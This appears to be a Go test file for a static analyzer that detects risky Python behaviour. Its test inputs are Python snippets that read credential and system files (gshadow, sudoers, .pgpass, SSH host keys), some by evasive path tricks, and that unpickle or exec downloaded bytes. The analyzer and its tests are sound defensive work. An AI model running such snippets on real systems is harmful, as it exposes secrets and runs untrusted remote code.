package python

import (
	"strings"
	"testing"

	"github.com/toolwarden/toolwarden/sdk"
)

func hasFile(f *sdk.Facts, op, path string) bool {
	for _, x := range f.Files {
		if x.Op == op && x.Path == path && !x.Dynamic {
			return true
		}
	}
	return false
}

func hasNet(f *sdk.Facts, host string, listen bool) bool {
	for _, x := range f.Network {
		if x.Host == host && x.Listen == listen {
			return true
		}
	}
	return false
}

func downloadedExec(f *sdk.Facts) bool {
	for _, d := range f.DynamicExec {
		if d.Downloaded {
			return true
		}
	}
	return false
}

// TestValueFlowMechanisms: string and path values reach the API that uses
// them through getters, defaults, the working directory and normalized
// spellings.
func TestValueFlowMechanisms(t *testing.T) {
	for _, tc := range []struct{ name, src, op, path string }{
		{"property getter", "class S:\n    @property\n    def loc(self):\n        return '/etc/sudoers'\ns = S()\nopen(s.loc).read()", "read", "/etc/sudoers"},
		{"property over self attribute", "class S:\n    def __init__(self):\n        self.base = '/etc'\n    @property\n    def loc(self):\n        return self.base + '/gshadow'\nprint(open(S().loc).read())", "read", "/etc/gshadow"},
		{"default argument, no-argument call", "def rd(p='/etc/gshadow'):\n    return open(p).read()\nrd()", "read", "/etc/gshadow"},
		{"chdir then relative open", "import os\nos.chdir(os.path.expanduser('~'))\nopen('.pgpass').read()", "read", "~/.pgpass"},
		{"chdir twice", "import os\nos.chdir('/etc')\nos.chdir('ssh')\nopen('ssh_host_rsa_key').read()", "read", "/etc/ssh/ssh_host_rsa_key"},
		{"dotdot in a join", "import os\nopen(os.path.join('/tmp', '..', 'etc', 'gshadow')).read()", "read", "/etc/gshadow"},
		{"proc alias of any pid", "open('/proc/42/root/etc/gshadow').read()", "read", "/etc/gshadow"},
		{"other user's home", "import os\nopen(os.path.expanduser('~bob/x/../.pgpass')).read()", "read", "~bob/.pgpass"},
		{"HOME variable spelled", "import os\nopen(os.environ['HOME'] + '//.pgpass').read()", "read", "~/.pgpass"},
		{"configparser one file", "import configparser, os\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.pgpass'))", "read", "~/.pgpass"},
		{"configparser a list", "import configparser\nc = configparser.RawConfigParser()\nc.read(['a.ini', '/etc/gshadow'])", "read", "/etc/gshadow"},
		{"configparser aliased class", "from configparser import ConfigParser as P\nP().read('/root/.my.cnf')", "read", "/root/.my.cnf"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if !hasFile(f, tc.op, tc.path) {
				t.Errorf("no %s of %s: %+v", tc.op, tc.path, f.Files)
			}
		})
	}
}

// TestDeserializedDownloads: pickle/marshal of downloaded bytes is
// downloaded code run, whichever way the bytes get there; of local data it
// is not.
func TestDeserializedDownloads(t *testing.T) {
	for _, tc := range []struct {
		name, src string
		want      bool
	}{
		{"loads of a response", "import pickle, requests\nr = requests.get('https://x.example/a')\npickle.loads(r.content)", true},
		{"load of BytesIO", "import pickle, io, requests\npickle.load(io.BytesIO(requests.get('https://x.example/a').content))", true},
		{"saved then loaded", "import pickle, requests\nwith open('p.bin', 'wb') as fh:\n    fh.write(requests.get('https://x.example/a').content)\nwith open('p.bin', 'rb') as fh:\n    pickle.load(fh)", true},
		{"saved then loaded by another spelling", "import marshal, urllib.request as u\nopen('./c.bin', 'wb').write(u.urlopen('https://x.example/c').read())\nexec(marshal.load(open('c.bin', 'rb')))", true},
		{"local cache", "import pickle\npickle.load(open('cache.pkl', 'rb'))", false},
		{"round trip", "import pickle\npickle.loads(pickle.dumps([1, 2]))", false},
		{"json of a download", "import json, requests\njson.loads(requests.get('https://x.example/a').text)", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if got := downloadedExec(f); got != tc.want {
				t.Errorf("downloaded exec = %v, want %v: %+v", got, tc.want, f.DynamicExec)
			}
		})
	}
}

// TestListeningServers: every server class that binds an address is a
// listening socket on it.
func TestListeningServers(t *testing.T) {
	for _, tc := range []struct{ name, src, host string }{
		{"socketserver", "import socketserver\nsocketserver.ThreadingTCPServer(('0.0.0.0', 9001), None).serve_forever()", "0.0.0.0"},
		{"http.server every interface", "from http.server import ThreadingHTTPServer as S, BaseHTTPRequestHandler\nS(('', 8001), BaseHTTPRequestHandler).serve_forever()", ""},
		{"asyncio.start_server", "import asyncio\nasync def main():\n    await asyncio.start_server(None, '0.0.0.0', 8881)\nasyncio.run(main())", "0.0.0.0"},
		{"asyncio.start_server default host", "import asyncio\nasync def main():\n    await asyncio.start_server(None, port=8881)\nasyncio.run(main())", ""},
		{"socket.create_server", "import socket\nsocket.create_server(('::', 7001))", "::"},
		{"wsgiref", "from wsgiref.simple_server import make_server\nmake_server('', 8000, None).serve_forever()", ""},
		{"loopback server", "import socketserver\nsocketserver.TCPServer(('127.0.0.1', 9001), None)", "127.0.0.1"},
		{"flask on every interface", "from flask import Flask\napp = Flask(__name__)\n@app.route('/')\ndef index():\n    return 'hi'\napp.run(host='0.0.0.0', port=80)", "0.0.0.0"},
		{"flask default is loopback", "import flask\napp = flask.Flask('x')\napp.run()", "127.0.0.1"},
		{"uvicorn", "import uvicorn\nuvicorn.run('main:app', host='0.0.0.0', port=8000)", "0.0.0.0"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if !hasNet(f, tc.host, true) {
				t.Errorf("no listening socket on %q: %+v", tc.host, f.Network)
			}
		})
	}
}

// TestProxiesAreDestinations: a proxy a request is routed through is a
// destination of its own.
func TestProxiesAreDestinations(t *testing.T) {
	for _, tc := range []struct{ name, src, host string }{
		{"ProxyHandler", "import urllib.request as u\no = u.build_opener(u.ProxyHandler({'https': 'http://198.51.100.3:3128'}))\no.open('https://github.com/')", "198.51.100.3"},
		{"requests proxies=", "import requests\nrequests.get('https://github.com/', proxies={'https': 'http://p.example:8080'})", "p.example"},
		{"httpx proxy=", "import httpx\nhttpx.Client(proxy='socks5://s.example:1080').get('https://github.com/')", "s.example"},
		{"environment, lower case, bare host", "import os, requests\nos.environ['https_proxy'] = '198.51.100.9:3128'\nrequests.get('https://github.com/')", "198.51.100.9"},
		{"urllib3 ProxyManager", "import urllib3\nurllib3.ProxyManager('http://q.example:3128').request('GET', 'https://github.com/')", "q.example"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if !hasNet(f, tc.host, false) {
				t.Errorf("no destination %q: %+v", tc.host, f.Network)
			}
		})
	}
	f, _ := analyzeSrc("import os\nos.environ['NO_PROXY'] = 'internal.example'")
	for _, n := range f.Network {
		if strings.Contains(n.Host, "internal") {
			t.Errorf("NO_PROXY read as a destination: %+v", n)
		}
	}
}
